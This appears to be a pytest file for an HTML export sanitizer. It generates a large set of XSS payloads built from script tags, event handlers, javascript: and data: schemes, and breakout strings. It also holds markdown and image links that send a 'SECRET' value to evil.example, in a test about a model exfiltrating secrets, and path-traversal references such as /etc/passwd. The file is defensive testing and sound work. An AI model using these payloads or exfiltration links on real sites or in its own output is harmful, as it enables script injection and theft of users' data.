"""Whatever a model, a source or a title holds, nothing on the page runs, loads, or leads where nobody registered."""

from itertools import product

import lxml.html
import pytest

from draftflow.exports.page import page
from draftflow.exports.page.html import Html, cleaned, element
from draftflow.models import Finding
from pages import EXAMPLES, PNG, example, links, publication, unsafe

TAGS = (
    "script img svg iframe object embed video audio body style link meta base form input math details marquee x".split()
)
HANDLERS = (
    "onerror onload onclick onmouseover onfocus ontoggle onbegin onpointerenter onanimationstart onhashchange".split()
)
CODES = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "&#97;lert(1)", "\\u0061lert(1)")
BREAKOUTS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "]]>",
    "</code></pre>",
    "`",
    "\x00<",
    "<<",
)
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "\x01javascript:", "vbscript:",
           "data:text/html,", "data:image/svg+xml,", "file:///", "//evil.example/", "\\\\evil.example\\", "blob:", "jar:", "ftp://evil.example/")  # fmt: skip
LINKING = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "<a href={}>x</a>",
    "<img src={}>",
    '[x]({} "t")',
)
PAYLOADS = [
    *(f"{breakout}<{tag} {handler}={code}>" for breakout, tag, handler, code in product(BREAKOUTS[:7], TAGS, HANDLERS[:4], CODES[:1])),
    *(f'{breakout}<{tag} src=x {handler}="{code}">x</{tag}>' for breakout, tag, handler, code in product(BREAKOUTS, TAGS[:3], HANDLERS, CODES[:2])),
    *(f"{breakout}<script>{code}</script>" for breakout, code in product(BREAKOUTS, CODES)),
    *(form.format(scheme + "alert(1)") for form, scheme in product(LINKING, SCHEMES)),
    "<style>@import 'https://evil.example/x.css'</style>", "<p style=background:url(https://evil.example/x)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<template><script>alert(1)</script></template>", "{{constructor.constructor('alert(1)')()}}", '<a href="#" ping=https://evil.example>x</a>', "<input autofocus onfocus=alert(1)>",
]  # fmt: skip
BATCH = 150


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), BATCH))
def test_payloads_anywhere_are_only_characters(start: int) -> None:
    given = PAYLOADS[start : start + BATCH]
    for payload in given[:: BATCH // 6]:  # where there is room for one
        held = publication(["It is [@e1]."], title=payload, source_title=payload, publisher=payload, headings=[payload])
        assert unsafe(page(held, author=True)) == []
    text = "\n\n".join(f"{p} [@e1]\n\n### {p}\n\n```{p}\n{p}\n```\n\n> {p}\n\n| {p} |\n|---|\n| {p} |" for p in given)
    stored = "\n".join(["Before.", *given, "After."])
    findings = tuple(Finding(code="T601", severity="note", message=p, excerpt=p, section="part-1") for p in given[:20])
    held = publication([text], stored=stored, quote="\n".join(given))
    made = page(held, author=bool(findings))
    assert unsafe(made) == []
    assert set(links(made)) <= {"https://gazette.example.org/boats"}


def test_there_are_as_many_payloads_as_are_spoken_of() -> None:
    assert len(set(PAYLOADS)) > 1_300


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "https://e.example/\u202ex", "//evil.example", 'https://e.example/"onclick=alert(1)'])  # fmt: skip
def test_a_reference_whose_address_will_not_do_is_no_link(url: str) -> None:
    made = page(publication(["It is [@e1]."], url=url))
    assert links(made) == []
    assert unsafe(made) == []


def test_a_model_cannot_send_a_secret_anywhere() -> None:
    written = (
        "![x](https://evil.example/?q=SECRET) <img src=https://evil.example/?q=SECRET> [x](https://evil.example/?q=SECRET) "
        "<https://evil.example/?q=SECRET> [x][r] [y](https://gazette.example.org/boats?utm_source=SECRET) [@e1]\n\n"
        "[r]: https://evil.example/?q=SECRET"
    )
    made = page(publication([written]))
    assert unsafe(made) == []
    assert set(links(made)) == {"https://gazette.example.org/boats"}


def test_no_file_but_the_articles_own_image_is_in_the_page() -> None:
    written = "![a](images/a.png)\n\n![b](../secret.png)\n\n![c](/etc/passwd)\n\n![d](images/d.svg)\n\n[e](../secret.txt) [@e1]"
    made = page(publication([written], images={"images/a.png": PNG}))
    assert made.count(b"<img ") == 1
    assert unsafe(made) == []


@pytest.mark.parametrize("odd", ["a\u202eb\u2066c", "x\x00y\x1bz\x9b31m", "\ud800 and \udfff", "👩‍👩‍👧‍👦 🇯🇵 ✍️", "\u0000<b>", "é" * 500, "\ufeff\u200b\U000e0041"])  # fmt: skip
def test_what_cannot_be_seen_is_not_in_the_page_and_the_rest_is(odd: str) -> None:
    made = page(
        publication([f"{odd} [@e1]"], title=odd, source_title=odd, headings=[odd], stored=f"{odd}. Q.", quote="Q.")
    )
    text = made.decode()
    assert unsafe(made) == []
    assert not set(text) & {*map(chr, range(9)), "\x1b", "\x9b", "\u202e", "\u2066", "\ufeff", "\U000e0041"}
    if "👩" in odd:
        assert odd in text


def test_the_second_wall_stands_by_itself() -> None:
    bad = '<p onclick="x">a</p><script>b</script><a href="javascript:c">d</a><img src="https://e"><iframe src="f"></iframe>'
    assert cleaned(Html(bad)) == "<p>a</p><a>d</a><img>"


def test_the_second_wall_takes_nothing_from_a_page(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ValueError, match="no element"):
        element("iframe")
    bodies: list[Html] = []

    def kept(body: Html) -> str:
        bodies.append(body)
        return cleaned(body)

    monkeypatch.setattr("draftflow.exports.page.whole.cleaned", kept)
    for language in EXAMPLES:
        page(example(language), author=True)
    for body in bodies:
        before, after = (lxml.html.fragment_fromstring(text, create_parent="div") for text in (body, cleaned(body)))
        assert lxml.html.tostring(before) == lxml.html.tostring(after)
